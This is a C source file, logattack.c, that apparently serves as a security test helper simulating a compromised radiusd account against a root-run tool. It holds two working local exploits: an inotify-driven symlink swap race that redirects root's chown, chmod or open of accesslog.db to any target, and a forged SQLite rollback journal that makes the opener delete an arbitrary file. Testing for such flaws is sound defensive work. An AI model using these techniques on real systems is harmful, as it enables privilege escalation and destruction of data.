/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * logattack.c - plays a compromised radiusd against coworkctl, for
 * logpriv.sh. It runs as radiusd's user, which may write STATE/log/.
 *
 *   logattack swap DIR TARGET SECONDS
 *	Watch DIR with inotify; whenever SQLite creates accesslog.db's
 *	-journal or -wal there, rename a symbolic link to TARGET
 *	over DIR/accesslog.db, so that whatever root then does to that name
 *	(chown, chmod, open) lands on TARGET. Stops after SECONDS; prints
 *	how many swaps it made.
 *
 *   logattack journal DB SUPER
 *	Write DB-journal: a rollback journal with no page records whose
 *	super-journal trailer names SUPER. Opening DB "rolls it back", and
 *	SQLite's clean-up then deletes SUPER, with the opener's rights.
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static const uint8_t journal_magic[8] = { 0xd9, 0xd5, 0x05, 0xf9, 0x20, 0xa1, 0x63, 0xd7 };

static void put32(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)(v >> 24);
	p[1] = (uint8_t)(v >> 16);
	p[2] = (uint8_t)(v >> 8);
	p[3] = (uint8_t)v;
}

static int64_t now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static int swap(const char *dir, const char *target, int seconds)
{
	char link[4096], victim[4096];
	char buf[4096] __attribute__((aligned(__alignof__(struct inotify_event))));
	int64_t end = now_ms() + (int64_t)seconds * 1000;
	int fd, swaps = 0;

	if (snprintf(link, sizeof(link), "%s/.swap", dir) >= (int)sizeof(link) ||
	    snprintf(victim, sizeof(victim), "%s/accesslog.db", dir) >= (int)sizeof(victim)) return 2;
	fd = inotify_init1(IN_CLOEXEC | IN_NONBLOCK);
	if (fd < 0 || inotify_add_watch(fd, dir, IN_CREATE) < 0) {
		perror("inotify");
		return 2;
	}
	printf("ready\n");
	fflush(stdout);
	while (now_ms() < end) {
		struct pollfd p = { fd, POLLIN, 0 };
		ssize_t n;

		if (poll(&p, 1, 50) <= 0) continue;
		n = read(fd, buf, sizeof(buf));
		for (char *q = buf; n > 0 && q < buf + n;) {
			struct inotify_event *ev = (struct inotify_event *)q;

			q += sizeof(*ev) + ev->len;
			/* Once SQLite works on the file (its journal or WAL appears), the name is ours. */
			if (!ev->len || (strcmp(ev->name, "accesslog.db-journal") != 0 &&
					 strcmp(ev->name, "accesslog.db-wal") != 0)) continue;
			(void)unlink(link);
			if (symlink(target, link) == 0 && rename(link, victim) == 0) swaps++;
		}
	}
	printf("swaps %d\n", swaps);
	return 0;
}

static int journal(const char *db, const char *super)
{
	uint8_t hdr[512], tail[16];
	char path[4096];
	size_t len = strlen(super);
	uint32_t sum = 0;
	struct stat st;
	FILE *f;

	if (stat(db, &st) < 0) {
		perror(db);
		return 2;
	}
	memset(hdr, 0, sizeof(hdr));
	memcpy(hdr, journal_magic, 8);
	put32(hdr + 8, 0);				/* no page records */
	put32(hdr + 12, 0x12345678);			/* checksum initialiser */
	put32(hdr + 16, (uint32_t)(st.st_size / 4096));	/* the database's size in pages, as it is */
	put32(hdr + 20, 512);				/* sector size */
	put32(hdr + 24, 4096);				/* page size */
	for (size_t i = 0; i < len; i++) sum += (uint8_t)super[i];
	put32(tail, 0);					/* the super-journal's page number field */
	if (snprintf(path, sizeof(path), "%s-journal", db) >= (int)sizeof(path)) return 2;
	f = fopen(path, "wx");
	if (!f) {
		perror(path);
		return 2;
	}
	fwrite(hdr, 1, sizeof(hdr), f);
	fwrite(tail, 1, 4, f);
	fwrite(super, 1, len, f);
	put32(tail, (uint32_t)len);
	put32(tail + 4, sum);
	memcpy(tail + 8, journal_magic, 8);
	fwrite(tail, 1, 16, f);
	if (fclose(f) != 0) {
		perror(path);
		return 2;
	}
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 5 && strcmp(argv[1], "swap") == 0) return swap(argv[2], argv[3], atoi(argv[4]));
	if (argc == 4 && strcmp(argv[1], "journal") == 0) return journal(argv[2], argv[3]);
	fprintf(stderr, "usage: logattack swap DIR TARGET SECONDS | logattack journal DB SUPER\n");
	return 2;
}
